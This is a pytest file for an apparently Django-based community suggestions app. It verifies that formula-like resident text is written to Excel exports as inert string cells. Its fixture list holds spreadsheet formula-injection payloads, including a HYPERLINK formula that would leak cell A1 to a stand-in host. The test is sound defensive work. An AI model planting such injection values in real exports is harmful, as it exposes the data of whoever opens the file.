"""The suggestions exports write residents' text as text: a formula in a suggestion stays inert."""

from datetime import datetime
from io import BytesIO
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from roundtable.suggestions.tests.factories import SuggestionFactory

FORMULAS = ['=HYPERLINK("http://example.com/?leak="&A1,"click")', "+1", "-1+1", "@SUM(1)", "#N/A"]


@pytest.fixture
def suggestions(community, compound):
    """One suggestion per formula-like text, in its text, its result and its 12345 number."""
    compound.name = "=1+1"
    compound.save()
    when = datetime(2026, 3, 5, 9, 0, tzinfo=ZoneInfo("Asia/Shanghai"))
    return [
        SuggestionFactory(
            community=community,
            compound=compound,
            submitted_at=when,
            text=text,
            result=text,
            hotline_number=text[:20],
        )
        for text in FORMULAS
    ]


def _url(route):
    if route == "work_export":
        return reverse("dashboards:export")
    return reverse("dashboards:behind_export", args=["lf", "collected"])


@pytest.mark.parametrize("route", ["work_export", "figures_list_export"])
def test_a_suggestions_formula_comes_back_from_the_export_as_plain_text(
    client, community_worker, suggestions, route
):
    client.force_login(community_worker)
    response = client.get(_url(route))
    assert response.status_code == 200
    sheet = load_workbook(BytesIO(response.content)).worksheets[0]
    header = [cell.value for cell in next(sheet.iter_rows(max_row=1))]
    columns = [header.index(name) for name in ("内容", "办理结果", "12345工单号", "小区")]
    rows = list(sheet.iter_rows(min_row=2))
    assert len(rows) == len(FORMULAS)
    written = {rows[i][columns[0]].value: [rows[i][c] for c in columns] for i in range(len(rows))}
    assert set(written) == set(FORMULAS)
    for text, (content, result, hotline, compound) in written.items():
        assert (content.value, result.value, hotline.value) == (text, text, text[:20])
        assert compound.value == "=1+1"
        assert {content.data_type, result.data_type, hotline.data_type, compound.data_type} == {
            "s"
        }, text
